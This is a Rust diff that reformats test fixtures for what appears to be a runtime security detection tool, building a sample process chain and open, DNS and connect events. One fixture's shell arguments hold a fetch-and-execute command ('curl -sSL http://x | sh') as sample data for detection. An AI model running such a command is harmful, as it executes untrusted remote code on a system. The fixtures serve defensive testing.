@@ -14,7 +14,10 @@ pub fn chain() -> Arc<Process> {
         pid: 1,
         comm: "systemd".into(),
         file: File::from_path("/usr/lib/systemd/systemd"),
-        args: Arc::new(ArgsEnvs { argv0: "/sbin/init".into(), ..ArgsEnvs::default() }),
+        args: Arc::new(ArgsEnvs {
+            argv0: "/sbin/init".into(),
+            ..ArgsEnvs::default()
+        }),
         ..Process::default()
     });
     let bash = Arc::new(Process {
@@ -24,8 +27,17 @@ pub fn chain() -> Arc<Process> {
         tty_name: "pts0".into(),
         cgroup: "/system.slice/app.service".into(),
         file: File::from_path("/usr/bin/bash"),
-        credentials: Credentials { uid: 1000, euid: 1000, user: "alice".into(), ..Credentials::default() },
-        args: Arc::new(ArgsEnvs { argv0: "bash".into(), args: vec!["-i".into()], ..ArgsEnvs::default() }),
+        credentials: Credentials {
+            uid: 1000,
+            euid: 1000,
+            user: "alice".into(),
+            ..Credentials::default()
+        },
+        args: Arc::new(ArgsEnvs {
+            argv0: "bash".into(),
+            args: vec!["-i".into()],
+            ..ArgsEnvs::default()
+        }),
         ancestor: Some(init),
         ..Process::default()
     });
@@ -35,7 +47,12 @@ pub fn chain() -> Arc<Process> {
         comm: "git".into(),
         cgroup: "/system.slice/app.service".into(),
         file: File::from_path("/usr/bin/git"),
-        credentials: Credentials { uid: 0, euid: 0, user: "root".into(), ..Credentials::default() },
+        credentials: Credentials {
+            uid: 0,
+            euid: 0,
+            user: "root".into(),
+            ..Credentials::default()
+        },
         args: Arc::new(ArgsEnvs {
             argv0: "git".into(),
             args: vec!["clone".into(), "--recursive".into(), "https://x/y".into()],
@@ -72,11 +89,24 @@ pub fn chain() -> Arc<Process> {
             user: "root".into(),
             ..Credentials::default()
         },
-        container: Some(ContainerContext { id: "abc123".into(), created_at: NOW - 60 * SEC }),
+        container: Some(ContainerContext {
+            id: "abc123".into(),
+            created_at: NOW - 60 * SEC,
+        }),
         args: Arc::new(ArgsEnvs {
             argv0: "sh".into(),
-            args: vec!["-c".into(), "curl -sSL http://x | sh".into(), "-p".into(), "0-1024".into(), "--verbose".into()],
-            envp: vec!["PATH=/bin".into(), "DD_SERVICE=web".into(), "HOME=/root".into()],
+            args: vec![
+                "-c".into(),
+                "curl -sSL http://x | sh".into(),
+                "-p".into(),
+                "0-1024".into(),
+                "--verbose".into(),
+            ],
+            envp: vec![
+                "PATH=/bin".into(),
+                "DD_SERVICE=web".into(),
+                "HOME=/root".into(),
+            ],
             ..ArgsEnvs::default()
         }),
         ancestor: Some(git),
@@ -95,22 +125,49 @@ pub fn exec() -> Event {
 }
 
 pub fn open(path: &str, flags: u32) -> Event {
-    event(EventData::Open(OpenEvent { file: File { mode: 0o100644, ..File::from_path(path) }, flags, mode: 0o644 }))
+    event(EventData::Open(OpenEvent {
+        file: File {
+            mode: 0o100644,
+            ..File::from_path(path)
+        },
+        flags,
+        mode: 0o644,
+    }))
 }
 
 pub fn dns(name: &str) -> Event {
-    let mut e = event(EventData::Dns(DnsEvent { id: 7, question: DnsQuestion { name: name.into(), class: 1, qtype: 16, size: 40, count: 1 } }));
+    let mut e = event(EventData::Dns(DnsEvent {
+        id: 7,
+        question: DnsQuestion {
+            name: name.into(),
+            class: 1,
+            qtype: 16,
+            size: 40,
+            count: 1,
+        },
+    }));
     e.network = Some(NetworkContext {
         device: None,
         l3_protocol: 0x0800,
         l4_protocol: 17,
-        source: IpPort { ip: "192.168.0.1".parse().unwrap(), port: 5353 },
-        destination: IpPort { ip: "8.8.8.8".parse().unwrap(), port: 53 },
+        source: IpPort {
+            ip: "192.168.0.1".parse().unwrap(),
+            port: 5353,
+        },
+        destination: IpPort {
+            ip: "8.8.8.8".parse().unwrap(),
+            port: 53,
+        },
         size: 64,
     });
     e
 }
 
 pub fn connect(ip: &str, port: u16) -> Event {
-    event(EventData::Connect(ConnectEvent { family: 2, ip: ip.parse().unwrap(), port, protocol: 6 }))
+    event(EventData::Connect(ConnectEvent {
+        family: 2,
+        ip: ip.parse().unwrap(),
+        port,
+        protocol: 6,
+    }))
 }
